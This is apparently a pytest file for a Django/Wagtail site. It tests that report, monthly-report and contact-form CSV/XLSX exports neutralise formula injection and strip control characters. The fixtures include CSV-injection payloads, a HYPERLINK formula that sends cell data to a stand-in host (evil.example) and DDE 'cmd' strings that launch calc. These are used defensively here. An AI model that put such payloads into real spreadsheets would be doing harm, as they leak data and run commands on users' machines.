"""What visitors typed cannot turn into a formula or break a spreadsheet export: every report's
CSV and XLSX (admin reports and the monthly report) neutralises formula-like text and drops
control characters, and keeps numbers as numbers."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from saypro_wagtail.helpcenter.models import HelpSearchQuery
from saypro_wagtail.monthly.periods import Period
from saypro_wagtail.profiles.models import Profile
from saypro_wagtail.spreadsheets import safe_cell
from tests.conftest import verified_login
from tests.profiles.conftest import make_user
from tests.support.conftest import make_request

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def admin_client(client, django_user_model):
    boss = django_user_model.objects.create_superuser("boss", "boss@example.com", "pw")
    return verified_login(client, boss)


def xlsx_cells(response):
    """Every cell of the first sheet, as openpyxl reads it back (type and value)."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response)), read_only=False).active
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_cells(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content if response.streaming else [response.content])
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def assert_no_formula(cells):
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas == []


# The rule, cell by cell.


@pytest.mark.parametrize(
    "typed, exported",
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("bad\x1bsearch\x00", "badsearch"),
        ("\x1b=1+1", "'=1+1"),
        ("a = b", "a = b"),
        ("-12", "-12"),
        ("+27.5", "+27.5"),
        ("", ""),
    ],
)
def test_text_that_spreadsheets_would_run_is_shown_as_typed(typed, exported):
    assert safe_cell(typed) == exported


def test_numbers_dates_and_empty_cells_are_kept_as_they_are():
    today = timezone.localdate()
    assert safe_cell(-5) == -5
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(today) == today
    assert safe_cell(None) is None


# The admin reports.


def searched(term, zero=1):
    from wagtail.models import Locale

    HelpSearchQuery.objects.create(
        query_string=term, locale=Locale.get_default(), hits=1, zero_result_hits=zero
    )


@pytest.fixture
def poisoned_searches(locales):
    searched(FORMULA)
    searched("wifi\x1bpassword")
    searched("-1")


def test_help_search_report_xlsx_has_text_not_formulas_and_opens(admin_client, poisoned_searches):
    url = reverse("saypro_helpcenter_reports:searches")
    cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))

    assert_no_formula(cells)
    values = [cell.value for cell in cells]
    assert "'" + FORMULA in values
    assert "wifipassword" in values
    assert 1 in values  # the counts stay numbers


def test_help_search_report_csv_has_text_not_formulas(admin_client, poisoned_searches):
    url = reverse("saypro_helpcenter_reports:searches")
    cells = csv_cells(admin_client.get(url, {"export": "csv"}))

    assert "'" + FORMULA in cells
    assert "wifipassword" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_support_requests_report_exports_a_poisoned_subject(admin_client, roles):
    make_request(subject="\x1bMy ad @home", logged_at=timezone.now())
    make_request(subject=FORMULA, logged_at=timezone.now())
    url = reverse("saypro_support_reports:requests")

    cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))
    assert_no_formula(cells)
    assert {"My ad @home", "'" + FORMULA} <= {cell.value for cell in cells}
    assert "'" + FORMULA in csv_cells(admin_client.get(url, {"export": "csv"}))


def test_accounts_report_exports_a_poisoned_registration_name(admin_client):
    user = make_user("mallory", confirmed=False)
    user.first_name, user.last_name = "=cmd|'/C calc'!A0", "Bad\x1bName"
    user.save()
    Profile.objects.filter(user=user).update(display_name="")
    url = reverse("saypro_profiles_reports:accounts")

    cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))
    assert_no_formula(cells)
    assert any(str(cell.value).startswith("'=cmd") for cell in cells)
    assert not any("\x1b" in str(cell.value) for cell in cells)


# The monthly report (the e-mail links to these exports).


@pytest.fixture
def poisoned_month(roles, locales):
    period = Period.last_complete()
    from wagtail.models import Locale

    for term in (FORMULA, "wifi\x1bpassword"):
        HelpSearchQuery.objects.create(
            query_string=term, locale=Locale.get_default(), date=period.first,
            hits=2, zero_result_hits=2,
        )  # fmt: skip
    return period


def test_monthly_report_xlsx_has_text_not_formulas_and_opens(admin_client, poisoned_month):
    response = admin_client.get(
        reverse("saypro_monthly_report:report"),
        {"period": poisoned_month.slug, "export": "xlsx"},
    )
    cells = xlsx_cells(response)

    assert_no_formula(cells)
    values = [cell.value for cell in cells]
    assert "'" + FORMULA + " (English)" in values
    assert "wifipassword (English)" in values


def test_monthly_report_csv_has_text_not_formulas(admin_client, poisoned_month):
    response = admin_client.get(
        reverse("saypro_monthly_report:report"),
        {"period": poisoned_month.slug, "export": "csv"},
    )
    cells = csv_cells(response)

    assert "'" + FORMULA + " (English)" in cells
    assert "wifipassword (English)" in cells


# The example site's contact form (Wagtail's form submissions export).


def test_contact_form_submissions_export_has_text_not_formulas(admin_client, contact_page):
    from django.test import Client

    Client().post(
        contact_page.url,
        {"your_name": FORMULA, "your_e_mail": "mallory@example.com", "message": "Hi\x1b there"},
    )
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk])

    cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))
    assert_no_formula(cells)
    assert "Hi there" in [cell.value for cell in cells]
    assert "'" + FORMULA in csv_cells(admin_client.get(url, {"export": "csv"}))
